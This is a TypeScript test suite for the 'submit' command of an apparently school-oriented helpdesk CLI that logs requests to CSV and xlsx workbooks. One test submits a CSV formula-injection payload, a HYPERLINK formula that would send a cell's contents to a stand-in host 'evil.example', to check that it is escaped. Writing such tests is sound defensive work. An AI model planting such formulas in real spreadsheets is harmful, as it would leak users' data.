import { spawn } from 'node:child_process';
import { cpSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { simpleParser } from 'mailparser';
import { readRequestRows } from '../../src/core/request-log';
import { readCsvFolder } from '../../src/local/workbook-file';
import { BUILD, runBuiltCli } from '../helpers/build';
import { SAMPLE_SCHOOL } from '../helpers/fixtures';

const copyOfSample = () => {
  const dir = join(mkdtempSync(join(tmpdir(), 'helpdesk-submit-')), 'school');
  cpSync(SAMPLE_SCHOOL, dir, { recursive: true });
  return dir;
};

const parent = ['--role', 'parent', '--name', 'Васильева О.П.', '--class', '7А', '--email', 'parent@example.org', '--kind', 'technical'];

const logged = (dir: string) => {
  const tab = readCsvFolder(dir).tabs.find((t) => t.name === 'Обращения')!;
  return readRequestRows(tab).requests;
};

describe('submit', () => {
  it('runs the real handleFormSubmit, writes the workbook back and the mail to the outbox', async () => {
    const dir = copyOfSample();
    const r = runBuiltCli(['submit', dir, ...parent, '--text', 'Не открывается дневник <b>', '--at', '2026-11-24T10:15', '--json']);
    expect(r.stderr).toBe('');
    expect(r.status).toBe(0);
    const out = JSON.parse(r.stdout);
    expect(out.request).toEqual({ id: 'ЭЖ-2026-0004', status: 'new', assignee: 'Смирнов И.К.' });
    expect(out.emails.map((e: { to: string[]; subject: string }) => [e.to, e.subject])).toEqual([
      [['parent@example.org'], 'Обращение ЭЖ-2026-0004 принято'],
      [['smirnov@school5.example.org'], 'Новое обращение ЭЖ-2026-0004: техническая помощь'],
    ]);
    const mail = await simpleParser(readFileSync(out.emails[1].file));
    expect(mail.subject).toBe('Новое обращение ЭЖ-2026-0004: техническая помощь');
    expect(mail.html).toContain('Не открывается дневник &lt;b&gt;');
    expect(logged(dir).at(-1)).toMatchObject({ id: 'ЭЖ-2026-0004', assignee: 'Смирнов И.К.', status: 'new' });
    // The same workbook again: the next id, nothing old mailed again.
    const again = JSON.parse(runBuiltCli(['submit', dir, ...parent, '--text', 'Ещё вопрос', '--at', '2026-11-24T13:30', '--json']).stdout);
    expect(again.request.id).toBe('ЭЖ-2026-0005');
    expect(again.emails.map((e: { subject: string }) => e.subject)).toEqual(['Обращение ЭЖ-2026-0005 принято', 'Новое обращение ЭЖ-2026-0005: техническая помощь']);
  });

  it('an English workbook whose Settings name no language is answered in English, as check reads it', () => {
    const dir = join(mkdtempSync(join(tmpdir(), 'helpdesk-submit-')), 'school');
    cpSync(SAMPLE_SCHOOL, dir, { recursive: true, filter: (f) => !f.endsWith('.csv') });
    writeFileSync(join(dir, 'Schedule.csv'), 'Day,Time,Kind of help,Responsible,Room\nTuesday,9:00-13:00,technical,John Smith,Room 14\n');
    writeFileSync(join(dir, 'Staff.csv'), 'Name,Email,Kind of help\nJohn Smith,smith@example.org,technical\n');
    writeFileSync(join(dir, 'Settings.csv'), 'Setting,Value\nTime zone,Europe/London\n');
    const r = runBuiltCli(['submit', dir, '--role', 'parent', '--name', 'Olga West', '--class', '7B', '--email', 'olga@example.org', '--kind', 'technical', '--text', 'x', '--at', '2026-12-01T10:15', '--json']);
    expect(r.stderr).toBe('');
    expect(JSON.parse(r.stdout).emails.map((e: { subject: string }) => e.subject)).toEqual(['Request 2026-0001 received', 'New request 2026-0001: technical help']);
  });

  it('text that Excel would run as a formula is saved to CSV behind an apostrophe, and read back as typed, however often it is saved', () => {
    const dir = copyOfSample();
    const name = '=HYPERLINK("https://evil.example/?"&B2,"открыть")';
    const text = "+7 900 @x";
    expect(runBuiltCli(['submit', dir, '--role', 'staff', '--name', name, '--email', 'a@example.org', '--kind', 'technical', '--text', text, '--at', '2026-11-24T10:15']).status).toBe(0);
    expect(runBuiltCli(['submit', dir, ...parent, '--text', 'Ещё вопрос', '--at', '2026-11-24T13:30']).status).toBe(0);
    const file = readFileSync(join(dir, 'Обращения.csv'), 'utf8');
    expect(file).not.toMatch(/(^|,)"?=HYPERLINK/m);
    expect(file).toContain(`"'=HYPERLINK(""https://evil.example/?""&B2,""открыть"")"`);
    expect(file).toContain(`'${text}`);
    expect(logged(dir).find((r) => r.description === text)).toMatchObject({ name });
  });

  it('an .xlsx workbook written back keeps every date and time, whatever zone its Settings name', async () => {
    for (const zone of ['Europe/Moscow', 'Asia/Yekaterinburg']) {
      const book = new ExcelJS.Workbook();
      for (const tab of readCsvFolder(SAMPLE_SCHOOL).tabs) {
        const sheet = book.addWorksheet(tab.name);
        for (const row of tab.rows) sheet.addRow(tab.name === 'Настройки' && row[0] === 'Часовой пояс' ? [row[0], zone] : row);
      }
      // Times typed as times (Excel keeps the wall clock on 1899-12-30) and a date with a time of day.
      const times = book.addWorksheet('График 2 корпус');
      times.addRow(['День', 'Начало', 'Окончание', 'Ответственный', 'Кабинет']);
      times.addRow(['ПН', new Date(Date.UTC(1899, 11, 30, 9, 0)), new Date(Date.UTC(1899, 11, 30, 14, 30)), 'Орлова Л.М.', 'каб. 3']);
      const file = join(mkdtempSync(join(tmpdir(), 'helpdesk-xlsx-')), 'school.xlsx');
      await book.xlsx.writeFile(file);
      const cells = async () => {
        const read = new ExcelJS.Workbook();
        await read.xlsx.readFile(file);
        const b2 = read.getWorksheet('График 2 корпус')!.getCell('B2').value as Date;
        const c2 = read.getWorksheet('График 2 корпус')!.getCell('C2').value as Date;
        // The first submitted request's time: a date the run wrote, read back by every later run.
        const received = read.getWorksheet('Обращения')!.getCell('B5').value;
        return [zone, b2.toISOString(), c2.toISOString(), received instanceof Date ? received.toISOString() : received];
      };
      expect(runBuiltCli(['submit', file, ...parent, '--text', 'Вопрос', '--at', '2026-11-24T10:15']).status).toBe(0);
      const before = await cells();
      expect(before[3]).toBe('2026-11-24T10:15:00.000Z'); // Excel keeps the wall clock
      for (let i = 0; i < 2; i++) expect(runBuiltCli(['submit', file, ...parent, '--text', `Вопрос ${i}`, '--at', '2026-11-24T11:15']).status).toBe(0);
      const after = await cells();
      expect(after).toEqual(before);
      expect(after.slice(1, 3)).toEqual(['1899-12-30T09:00:00.000Z', '1899-12-30T14:30:00.000Z']);
    }
  }, 60_000);

  it('cells the request does not touch are written back as they were: text starting with =, numbers like 0012 and 2.10', () => {
    const dir = copyOfSample();
    const plan = join(dir, 'План внедрения.csv');
    const extra = '11,=> см. приказ №5,В течение года,Иванова А.Б.,\r\n12,Анкета 0012,0.10,Иванова А.Б.,2.10\r\n';
    writeFileSync(plan, readFileSync(plan, 'utf8') + extra);
    expect(runBuiltCli(['submit', dir, ...parent, '--text', 'Вопрос', '--at', '2026-11-24T10:15']).status).toBe(0);
    expect(readFileSync(plan, 'utf8').endsWith(extra)).toBe(true);
  });

  it('an --at moment that does not exist (30 February, 25:99) is bad usage, and nothing is written', () => {
    const dir = copyOfSample();
    const before = readFileSync(join(dir, 'Обращения.csv'), 'utf8');
    for (const at of ['2026-02-30T10:00', '2026-11-24T25:99', '24.11.2026 10:15']) {
      expect([at, runBuiltCli(['submit', dir, ...parent, '--text', 'x', '--at', at]).status]).toEqual([at, 2]);
    }
    expect(readFileSync(join(dir, 'Обращения.csv'), 'utf8')).toBe(before);
  });

  it('an invalid request exits 1 with the reasons, and is still logged', () => {
    const dir = copyOfSample();
    const r = runBuiltCli(['submit', dir, '--role', 'parent', '--name', 'Х', '--email', 'bad', '--kind', 'legal', '--text', 'x', '--at', '2026-11-24T10:15']);
    expect(r.status).toBe(1);
    expect(r.stderr).toContain('Не принято');
    expect(r.stderr).toContain('Родители и учащиеся должны указать класс');
    expect(logged(dir).at(-1)).toMatchObject({ status: 'invalid', name: 'Х' });
  });

  it('50 submissions racing from 50 processes give 50 distinct ids and 50 rows', async () => {
    const dir = copyOfSample();
    const cli = join(BUILD, 'local', 'cli.cjs');
    const run = (i: number) =>
      new Promise<number>((resolve) => {
        const p = spawn(process.execPath, [cli, 'submit', dir, '--role', 'staff', '--name', `Учитель ${i}`, '--email', `t${i}@school5.example.org`, '--kind', 'methodical', '--text', `Вопрос ${i}`, '--at', '2026-11-24T10:15'], { stdio: 'ignore' });
        p.on('exit', (code) => resolve(code ?? -1));
      });
    const codes = await Promise.all(Array.from({ length: 50 }, (_, i) => run(i)));
    expect(codes.every((c) => c === 0)).toBe(true);
    const rows = logged(dir).slice(3);
    expect(rows).toHaveLength(50);
    expect(new Set(rows.map((r) => r.id)).size).toBe(50);
    expect(new Set(rows.map((r) => r.name)).size).toBe(50);
  }, 240_000);
});
